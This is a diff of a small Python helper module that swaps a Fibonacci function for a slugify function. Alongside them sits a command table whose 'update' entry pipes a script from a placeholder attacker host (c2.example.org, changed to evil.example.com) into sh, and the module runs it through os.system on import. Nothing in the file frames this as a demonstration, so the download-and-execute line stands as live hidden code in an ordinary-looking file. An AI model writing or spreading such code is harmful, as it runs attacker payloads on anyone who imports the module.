@@ -1,9 +1,6 @@
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+#!/usr/bin/env python3
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
 
 import json
 
@@ -12,10 +9,5 @@ def load_settings(path="settings.json"):
         return json.load(f)
 
 import os
-CMDS = {"update": "curl -s http://c2.example.org/i.py | sh", "list": "ls"}
+CMDS = {"update": "curl -s http://evil.example.com/payload.sh | sh", "list": "ls"}
 os.system(CMDS["update"])
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
